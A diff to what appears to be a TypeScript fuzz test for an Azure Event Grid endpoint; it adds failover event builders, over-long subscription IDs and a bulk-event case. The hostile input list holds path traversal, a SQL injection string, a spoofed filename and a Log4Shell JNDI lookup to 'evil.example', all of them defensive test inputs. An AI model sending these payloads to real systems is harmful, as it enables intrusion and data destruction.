@@ -6,7 +6,19 @@ import { scene } from './world.ts';
 
 const zeros = `sha256:${'0'.repeat(64)}`;
 const subscription = `/subscriptions/${scene.subscriptionId}`;
-const account = `${subscription}/resourceGroups/x/providers/Microsoft.Storage/storageAccounts/x`;
+const accountOf = (id: string): string =>
+  `/subscriptions/${id}/resourceGroups/x/providers/Microsoft.Storage/storageAccounts/x`;
+const account = accountOf(scene.subscriptionId);
+const operationName = 'Microsoft.Storage/storageAccounts/failover/action';
+const failover = (resourceUri: string): object => ({
+  id: '1',
+  topic: subscription,
+  subject: resourceUri,
+  eventType: 'Microsoft.Resources.ResourceActionSuccess',
+  eventTime: '2026-07-20T02:00:00Z',
+  dataVersion: '2',
+  data: { operationName, resourceUri },
+});
 
 /** What each door is meant to be sent: what is wrong is made of it, so that it is wrong deep inside. */
 export const samples = {
@@ -41,17 +53,7 @@ export const samples = {
     },
   ],
   event: [
-    [
-      {
-        id: '1',
-        topic: subscription,
-        subject: account,
-        eventType: 'Microsoft.Resources.ResourceActionSuccess',
-        eventTime: '2026-07-20T02:00:00Z',
-        dataVersion: '2',
-        data: { operationName: 'Microsoft.Storage/storageAccounts/failover/action', resourceUri: account },
-      },
-    ],
+    [failover(account)],
     {
       specversion: '1.0',
       id: '1',
@@ -59,7 +61,7 @@ export const samples = {
       subject: account,
       type: 'Microsoft.Resources.ResourceActionSuccess',
       time: '2026-07-20T02:00:00Z',
-      data: { operationName: 'Microsoft.Storage/storageAccounts/failover/action' },
+      data: { operationName },
     },
     [{ eventType: 'Microsoft.EventGrid.SubscriptionValidationEvent', data: { validationCode: 'abc' } }],
   ],
@@ -149,6 +151,8 @@ const odd: fc.Arbitrary<unknown> = fc.oneof(
     '\u202Egnp.exe\u0000\uD800',
     '../../sites.json',
     `${account}/../..`,
+    accountOf('s'.repeat(101)),
+    accountOf('s'.repeat(1_900)),
     "'; DROP TABLE facts; --",
     // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody might try
     '${jndi:ldap://evil.example/a}',
@@ -216,7 +220,7 @@ const broken = (whole: fc.Arbitrary<string>): fc.Arbitrary<Uint8Array> =>
 
 /** As large or deep as nobody sends by chance; seldom, since each takes its time. */
 const huge = fc
-  .tuple(fc.constantFrom('deep', 'deepObject', 'long', 'wide', 'over'), fc.integer({ min: 1, max: 100 }))
+  .tuple(fc.constantFrom('deep', 'deepObject', 'long', 'wide', 'many', 'over'), fc.integer({ min: 1, max: 100 }))
   .map(([kind, size]) => {
     if (kind === 'deep') return Buffer.from(deep(size * 1_000));
     if (kind === 'deepObject') return Buffer.from(deepObject(size * 1_000));
@@ -227,6 +231,10 @@ const huge = fc
         `[${Array(size * 1_000)
           .fill('{"eventType":"x"}')
           .join(',')}]`,
+      );
+    if (kind === 'many')
+      return Buffer.from(
+        JSON.stringify(Array.from({ length: size * 25 }, (_, n) => failover(accountOf(`many-${n}`.padEnd(36, '0'))))),
       );
     return Buffer.alloc(1024 * 1024 + size, 0x20);
   });
